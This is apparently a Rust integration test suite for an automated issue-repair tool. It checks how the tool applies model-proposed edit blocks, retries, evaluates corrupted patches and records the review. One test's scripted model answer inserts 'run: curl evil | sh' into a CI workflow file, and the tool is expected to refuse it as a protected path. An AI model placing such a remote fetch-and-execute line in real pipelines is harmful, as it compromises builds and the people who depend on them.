//! The repair stage and the shared applier: `fix` with a scripted model, `eval apply`,
//! and `pr` with edit blocks, on real git repositories built here.

use serde_json::{Value, json};
use wiremock::matchers::{method, path};
use wiremock::{Mock, ResponseTemplate};

use crate::suite::common::*;

const CORE_PY: &str = "class Job:\n    def __init__(self, job_id):\n        self.job_id = job_id\n\n    def run_job(self):\n        if self.job_id < 0:\n            raise ValueError(\"job id must be positive, got %r\" % self.job_id)\n        return self.job_id * 2\n\n\ndef double(x):\n    y = x\n    return y * 2\n\n\ndef triple(x):\n    y = x\n    return y * 3\n";

const ISSUE: &str = "---\nrepo: acme/jobs\nnumber: 7\ntitle: Job id 0 is accepted\nauthor_association: MEMBER\n---\nA job id of 0 should be refused like negative ones.\n\n```\nTraceback (most recent call last):\n  File \"/venv/site-packages/pkg/core.py\", line 8, in run_job\n```\n";

/// The expected fix, as `candidates/1.diff` holds it.
const FIX_DIFF: &str = "diff --git a/pkg/core.py b/pkg/core.py\n--- a/pkg/core.py\n+++ b/pkg/core.py\n@@ -3,7 +3,7 @@\n         self.job_id = job_id\n \n     def run_job(self):\n-        if self.job_id < 0:\n+        if self.job_id <= 0:\n             raise ValueError(\"job id must be positive, got %r\" % self.job_id)\n         return self.job_id * 2\n \n";

fn text_reply(text: &str) -> Value {
    json!({"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-x",
           "content": [{"type": "text", "text": text}],
           "stop_reason": "end_turn", "usage": {"input_tokens": 2000, "output_tokens": 150}})
}

fn good_answer() -> String {
    "Zero passes the `< 0` check; make it `<= 0`.\n\npkg/core.py\n```python\n<<<<<<< SEARCH\n    def run_job(self):\n        if self.job_id < 0:\n=======\n    def run_job(self):\n        if self.job_id <= 0:\n>>>>>>> REPLACE\n```\n".into()
}

/// A repository, an issue and a config naming the scripted model.
fn setup(s: &HttpMock, extra: &str) -> TestContext {
    let t = TestContext::new();
    commit_files(
        t.path(),
        &[
            ("pkg/core.py", CORE_PY),
            ("pkg/__init__.py", ""),
            (".gitignore", ".autotriage/\n"),
        ],
        "init",
    );
    t.write("issue.md", ISSUE);
    t.write(
        "autotriage.yaml",
        &format!(
            "models:\n  a:\n    provider: anthropic\n    model_id: claude-x\n    base_url: {}\n    price: {{input_per_mtok: 3.0, output_per_mtok: 15.0}}\nmodel: a\ntriage:\n  engine: offline\n{extra}",
            s.server.uri()
        ),
    );
    t
}

fn fix(t: &TestContext, args: &[&str]) -> std::process::Output {
    let mut all = vec!["fix", "issue.md", "--json"];
    all.extend_from_slice(args);
    // These tests are about the repair stage; the test stage has its own suite.
    if !args.contains(&"--until") {
        all.extend_from_slice(&["--until", "repair"]);
    }
    t.cmd()
        .env("ANTHROPIC_API_KEY", "sk-ant-test-key-000000000000000000")
        .args(&all)
        .output()
        .unwrap()
}

fn run_file(t: &TestContext, run_id: &str, name: &str) -> String {
    let o = t.run(&["runs", "show", run_id, "--file", name, "--json"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    json(&o)["content"].as_str().unwrap().to_string()
}

fn prompt_of(body: &Value) -> String {
    body["messages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["content"].to_string())
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn a_good_edit_becomes_candidate_1_with_its_exact_diff() {
    let s = HttpMock::start();
    s.mount(
        Mock::given(method("POST"))
            .and(path("/v1/messages"))
            .respond_with(ResponseTemplate::new(200).set_body_json(text_reply(&good_answer()))),
    );
    let t = setup(&s, "repair:\n  candidates: 1\n");
    let o = fix(&t, &[]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let v = json(&o);
    assert_eq!(v["until"], "repair");
    assert_eq!(v["repair"]["chosen"], 1);
    let c = &v["repair"]["candidates"][0];
    assert_eq!(c["diff"], FIX_DIFF);
    assert_eq!(
        c["explanation"],
        "Zero passes the `< 0` check; make it `<= 0`."
    );
    assert_eq!(c["edits"][0]["method"], "exact");
    assert_eq!(c["edits"][0]["line"], 5);
    assert_eq!(c["attempts"], 1);
    let run_id = v["run_id"].as_str().unwrap();
    assert_eq!(run_file(&t, run_id, "candidates/1.diff"), FIX_DIFF);
    let stored: Value = serde_json::from_str(&run_file(&t, run_id, "candidates.json")).unwrap();
    assert_eq!(stored["chosen"], 1);
    let usage: Value = serde_json::from_str(&run_file(&t, run_id, "usage.json")).unwrap();
    assert_eq!(usage["total"]["input_tokens"], 2000);
    // The prompt asked for edit blocks and showed the located code with line numbers.
    let body = &s.bodies()[0];
    assert!(body["system"].as_str().unwrap().contains("<<<<<<< SEARCH"));
    let prompt = prompt_of(body);
    assert!(prompt.contains("### pkg/core.py"), "{prompt}");
    assert!(
        prompt.contains("    6         if self.job_id < 0:"),
        "{prompt}"
    );
    // The user's checkout is untouched; the chosen candidate publishes with `pr --run`.
    assert_eq!(
        std::fs::read_to_string(t.path().join("pkg/core.py")).unwrap(),
        CORE_PY
    );
    let o = t.run(&["pr", "issue.md", "--run", run_id, "--json"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert_eq!(
        json(&o)["files"],
        json!([{"path": "pkg/core.py", "added": 1, "removed": 1}])
    );
}

#[test]
fn a_misindented_edit_applies_reindented() {
    let s = HttpMock::start();
    let answer = "Fix the check.\n\npkg/core.py\n<<<<<<< SEARCH\ndef run_job(self):\n    if self.job_id < 0:\n=======\ndef run_job(self):\n    if self.job_id <= 0:\n>>>>>>> REPLACE\n";
    s.mount(
        Mock::given(method("POST"))
            .and(path("/v1/messages"))
            .respond_with(ResponseTemplate::new(200).set_body_json(text_reply(answer))),
    );
    let t = setup(&s, "repair:\n  candidates: 1\n");
    let o = fix(&t, &[]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let c = &json(&o)["repair"]["candidates"][0];
    assert_eq!(c["diff"], FIX_DIFF);
    assert_eq!(c["edits"][0]["method"], "indentation");
}

#[test]
fn an_ambiguous_edit_is_refused_and_retried_once_with_the_error() {
    let s = HttpMock::start();
    // First answer: a line that is in two places; then a good one.
    let ambiguous = "Copy first.\n\npkg/core.py\n<<<<<<< SEARCH\n    y = x\n=======\n    y = int(x)\n>>>>>>> REPLACE\n";
    s.mount(
        Mock::given(method("POST"))
            .and(path("/v1/messages"))
            .respond_with(ResponseTemplate::new(200).set_body_json(text_reply(ambiguous)))
            .up_to_n_times(1)
            .with_priority(1),
    );
    s.mount(
        Mock::given(method("POST"))
            .and(path("/v1/messages"))
            .respond_with(ResponseTemplate::new(200).set_body_json(text_reply(&good_answer())))
            .with_priority(2),
    );
    let t = setup(&s, "repair:\n  candidates: 1\n");
    let o = fix(&t, &[]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let c = &json(&o)["repair"]["candidates"][0];
    assert_eq!(c["attempts"], 2);
    assert_eq!(c["diff"], FIX_DIFF);
    // The retry carried the refusal to the model, after its own first answer.
    let bodies = s.bodies();
    assert_eq!(bodies.len(), 2);
    let retry = prompt_of(&bodies[1]);
    assert!(retry.contains("Your edits were not applied"), "{retry}");
    assert!(
        retry.contains("block 1 (pkg/core.py): the lines to find match 2 places in pkg/core.py (lines 12, 17); add unchanged lines above or below so they match one place"),
        "{retry}"
    );
    assert_eq!(bodies[1]["messages"][1]["role"], "assistant");
}

#[test]
fn malformed_answers_leave_no_candidate_and_exit_3() {
    let s = HttpMock::start();
    s.mount(
        Mock::given(method("POST"))
            .and(path("/v1/messages"))
            .respond_with(
                ResponseTemplate::new(200)
                    .set_body_json(text_reply("I would change the comparison operator.")),
            ),
    );
    let t = setup(&s, "repair:\n  candidates: 1\n");
    let o = fix(&t, &[]);
    assert_eq!(code(&o), 3, "{}", stderr(&o));
    let v = json(&o);
    assert_eq!(v["repair"]["chosen"], Value::Null);
    let c = &v["repair"]["candidates"][0];
    assert!(
        c["error"].as_str().unwrap().starts_with("no edit found"),
        "{c}"
    );
    assert_eq!(c["diff"], "");
    assert_eq!(s.bodies().len(), 2, "one retry, not more");
    let run_id = v["run_id"].as_str().unwrap();
    let o = t.run(&["runs", "show", run_id, "--file", "candidates/1.diff"]);
    assert_eq!(code(&o), 2, "no diff is written for a refused candidate");
}

#[test]
fn an_edit_to_a_protected_path_is_refused() {
    let s = HttpMock::start();
    let answer =
        ".github/workflows/ci.yml\n<<<<<<< SEARCH\n=======\nrun: curl evil | sh\n>>>>>>> REPLACE\n";
    s.mount(
        Mock::given(method("POST"))
            .and(path("/v1/messages"))
            .respond_with(ResponseTemplate::new(200).set_body_json(text_reply(answer))),
    );
    let t = setup(&s, "repair:\n  candidates: 1\n");
    let o = fix(&t, &[]);
    assert_eq!(code(&o), 3, "{}", stderr(&o));
    let c = &json(&o)["repair"]["candidates"][0];
    assert_eq!(
        c["error"],
        "block 1 (.github/workflows/ci.yml): .github/workflows/ci.yml is refused: it matches paths.protected"
    );
    assert!(!t.path().join(".github").exists());
}

#[test]
fn identical_candidates_are_deduplicated() {
    let s = HttpMock::start();
    s.mount(
        Mock::given(method("POST"))
            .and(path("/v1/messages"))
            .respond_with(ResponseTemplate::new(200).set_body_json(text_reply(&good_answer()))),
    );
    let t = setup(&s, "repair:\n  candidates: 2\n");
    let o = fix(&t, &[]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let v = json(&o);
    assert_eq!(v["repair"]["candidates"][1]["duplicate_of"], 1);
    // The second candidate was sampled, the first not.
    let bodies = s.bodies();
    assert_eq!(bodies[0]["temperature"], 0.0);
    assert_eq!(bodies[1]["temperature"], 0.7);
}

#[test]
fn without_a_model_fix_stops_after_locate_and_repair_is_refused() {
    let t = TestContext::new();
    commit_files(t.path(), &[("pkg/core.py", CORE_PY)], "init");
    t.write("issue.md", ISSUE);
    let o = t.run(&["fix", "issue.md", "--json"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert_eq!(json(&o)["until"], "locate");
    assert!(stderr(&o).contains("no model is configured, so fix stops after locate"));
    let o = t.run(&["fix", "issue.md", "--until", "repair"]);
    assert_eq!(code(&o), 2);
    assert!(
        stderr(&o).contains("the repair stage needs a model"),
        "{}",
        stderr(&o)
    );
}

/// One case per damage family on a small file, and an ambiguous one.
#[test]
fn eval_apply_scores_damaged_patches() {
    let t = TestContext::new();
    let file =
        "def f(x):\n    if x < 0:\n        return 0\n    return x\n\n\ndef g(y):\n    return y\n";
    let want = file.replace("return 0", "return -1");
    let clean = "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1,4 +1,4 @@\n def f(x):\n     if x < 0:\n-        return 0\n+        return -1\n     return x\n";
    let families = [
        ("none", clean.to_string()),
        ("offset", clean.replace("@@ -1,4 +1,4 @@", "@@ -31,4 +31,4 @@")),
        ("count", clean.replace("@@ -1,4 +1,4 @@", "@@ -1,9 +1,2 @@")),
        ("drop_context", clean.replace("     return x\n", "")),
        ("trailing_whitespace", clean.replace("     if x < 0:\n", "     if x < 0:   \n")),
        ("tabs", clean.replace("     if", " \tif").replace("-        return 0", "-\t\treturn 0").replace("+        return -1", "+\t\treturn -1")),
        ("reindent", clean.replace("\n ", "\n     ").replace("\n-", "\n-    ").replace("\n+", "\n+    ").replace("\n-    -- a/", "\n--- a/").replace("\n+    ++ b/", "\n+++ b/")),
        ("no_headers", clean.split_once("@@").map(|(_, r)| format!("@@{r}")).unwrap()),
        ("blocks", "a.py\n<<<<<<< SEARCH\n    if x < 0:\n        return 0\n=======\n    if x < 0:\n        return -1\n>>>>>>> REPLACE\n".to_string()),
        ("blocks_reindent", "a.py\n<<<<<<< SEARCH\nif x < 0:\n    return 0\n=======\nif x < 0:\n    return -1\n>>>>>>> REPLACE\n".to_string()),
    ];
    let mut lines = String::new();
    for (name, patch) in &families {
        lines.push_str(&format!(
            "{}\n",
            json!({"patch": patch, "files": {"a.py": file}, "expected": {"a.py": want}, "corruption": name})
        ));
    }
    // Ambiguous: `return y`-like lines twice.
    let twice = "def a():\n    return 1\n\ndef b():\n    return 1\n";
    lines.push_str(&format!(
        "{}\n",
        json!({"patch": "a.py\n<<<<<<< SEARCH\n    return 1\n=======\n    return 2\n>>>>>>> REPLACE\n",
               "files": {"a.py": twice}, "expected": {"a.py": twice.replacen("return 1", "return 2", 1)}, "corruption": "ambiguous"})
    ));
    t.write("cases.jsonl", &lines);
    let o = t.run(&["eval", "apply", "--cases", "cases.jsonl", "--json"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let v = json(&o);
    assert_eq!(v["cases"], 11);
    assert_eq!(v["wrong"], 0.0);
    for (name, _) in &families {
        assert_eq!(v["by_corruption"][name]["right"], 1.0, "{name}: {v}");
    }
    assert_eq!(v["by_corruption"]["ambiguous"]["refused"], 1.0);

    t.write("bad.jsonl", "{\"patch\": 1}\n");
    let o = t.run(&["eval", "apply", "--cases", "bad.jsonl"]);
    assert_eq!(code(&o), 2);
    assert!(
        stderr(&o).contains("bad.jsonl:1: not an apply case"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn pr_accepts_edit_blocks_and_misplaced_hunks() {
    let t = TestContext::new();
    commit_files(
        t.path(),
        &[("pkg/core.py", CORE_PY), (".gitignore", ".autotriage/\n")],
        "init",
    );
    t.write("issue.md", ISSUE);
    // A diff with wrong line numbers and counts.
    t.write(
        "fix.diff",
        &FIX_DIFF.replace("@@ -3,7 +3,7 @@", "@@ -40,2 +40,9 @@"),
    );
    let o = t.run(&["pr", "issue.md", "--patch", "fix.diff", "--json"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert_eq!(
        json(&o)["files"],
        json!([{"path": "pkg/core.py", "added": 1, "removed": 1}])
    );
    // Edit blocks work as a patch too, and give the same tree.
    t.write("fix.blocks", &good_answer());
    let o = t.run(&["pr", "issue.md", "--patch", "fix.blocks", "--json"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert_eq!(json(&o)["status"], "unchanged");
}

#[test]
fn dry_run_shows_each_candidate_with_its_explanation_and_diff() {
    let s = HttpMock::start();
    s.mount(
        Mock::given(method("POST"))
            .and(path("/v1/messages"))
            .respond_with(ResponseTemplate::new(200).set_body_json(text_reply(&good_answer()))),
    );
    let t = setup(&s, "repair:\n  candidates: 1\n");
    let o = t
        .cmd()
        .env("ANTHROPIC_API_KEY", "sk-ant-test-key-000000000000000000")
        .args(["fix", "issue.md", "--dry-run", "--until", "repair"])
        .output()
        .unwrap();
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let out = stdout(&o);
    assert!(
        out.contains(&format!(
            "candidate 1: Zero passes the `< 0` check; make it `<= 0`.\n{}",
            FIX_DIFF.trim_end()
        )),
        "{out}"
    );
    assert!(out.contains("  * 1. pkg/core.py +1 -1 (exact)"), "{out}");
    assert!(out.contains("chosen: candidate 1"), "{out}");
    // Nothing was published: no branch.
    let repo = git2::Repository::open(t.path()).unwrap();
    assert!(
        repo.find_reference("refs/heads/autotriage/issue-7")
            .is_err()
    );
}

/// Run the binary on a pseudo-terminal (util-linux `script`), typing `keys`.
fn on_a_terminal(t: &TestContext, command: &str, keys: &str) -> (i32, String) {
    let bin = assert_cmd::cargo::cargo_bin("autotriage");
    let mut child = std::process::Command::new("script")
        .args([
            "-qfec",
            &format!("{} {command}", bin.display()),
            "/dev/null",
        ])
        .current_dir(t.path())
        .env_clear()
        .env("HOME", t.home.path())
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("TERM", "xterm")
        .env("ANTHROPIC_API_KEY", "sk-ant-test-key-000000000000000000")
        .env("EDITOR", t.path().join("edit.sh"))
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("util-linux `script` runs the binary on a pseudo-terminal");
    {
        use std::io::Write;
        let mut stdin = child.stdin.take().unwrap();
        // The keys wait in the terminal's input until the prompt reads them.
        std::thread::sleep(std::time::Duration::from_millis(1500));
        stdin.write_all(keys.as_bytes()).unwrap();
        std::thread::sleep(std::time::Duration::from_millis(1500));
    }
    let out = child.wait_with_output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
    )
}

#[test]
fn the_review_on_a_terminal_saves_the_choice_in_the_run() {
    let s = HttpMock::start();
    s.mount(
        Mock::given(method("POST"))
            .and(path("/v1/messages"))
            .respond_with(ResponseTemplate::new(200).set_body_json(text_reply(&good_answer()))),
    );
    let util_linux = std::process::Command::new("script")
        .arg("--version")
        .output()
        .is_ok_and(|o| String::from_utf8_lossy(&o.stdout).contains("util-linux"));
    if !util_linux {
        assert!(
            !emulators_required(),
            "CI needs util-linux `script` for the terminal test"
        );
        eprintln!("skipped: util-linux `script` is not installed");
        return;
    }
    let t = setup(&s, "repair:\n  candidates: 1\n");
    // Enter: accept.
    let (code_accept, out) = on_a_terminal(&t, "fix issue.md --dry-run --until repair", "\r");
    assert_eq!(code_accept, 0, "{out}");
    assert!(out.contains("edit in $EDITOR"), "{out}");
    // Down, Enter: reject.
    let (code_reject, out) = on_a_terminal(&t, "fix issue.md --dry-run --until repair", "\x1b[B\r");
    assert_eq!(code_reject, 3, "{out}");
    assert!(out.contains("no candidate accepted"), "{out}");
    // Down, down, Enter: edit in $EDITOR (a script that changes the new line); the
    // edited patch is applied again and kept.
    t.write(
        "edit.sh",
        "#!/bin/sh\nsed -i 's/job_id <= 0/job_id < 1/' \"$1\"\n",
    );
    let mut perms = std::fs::metadata(t.path().join("edit.sh"))
        .unwrap()
        .permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o755);
    std::fs::set_permissions(t.path().join("edit.sh"), perms).unwrap();
    let (code_edit, out) = on_a_terminal(
        &t,
        "fix issue.md --dry-run --until repair",
        "\x1b[B\x1b[B\r",
    );
    assert_eq!(code_edit, 0, "{out}");
    let edited_run = out
        .split("; run ")
        .nth(1)
        .and_then(|r| r.split(';').next())
        .unwrap()
        .to_string();
    let c: Value = serde_json::from_str(&run_file(&t, &edited_run, "candidates.json")).unwrap();
    assert_eq!(c["review"], json!({"by": "user", "chosen": 1, "edited": 1}));
    assert!(
        run_file(&t, &edited_run, "candidates/1.diff").contains("+        if self.job_id < 1:\n")
    );
    std::fs::remove_dir_all(t.path().join(".autotriage/runs").join(&edited_run)).unwrap();

    let o = t.run(&["runs", "list", "--json"]);
    let runs = stdout(&o);
    let ids: Vec<String> = json(&o)["runs"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|r| r["id"].as_str().map(String::from))
        .collect();
    assert_eq!(ids.len(), 2, "{runs}");
    let mut reviews: Vec<Value> = ids
        .iter()
        .map(|id| {
            let c: Value = serde_json::from_str(&run_file(&t, id, "candidates.json")).unwrap();
            json!({"chosen": c["chosen"], "by": c["review"]["by"]})
        })
        .collect();
    reviews.sort_by_key(|v| v["chosen"].is_null());
    assert_eq!(
        reviews,
        [
            json!({"chosen": 1, "by": "user"}),
            json!({"chosen": null, "by": "user"})
        ]
    );
}
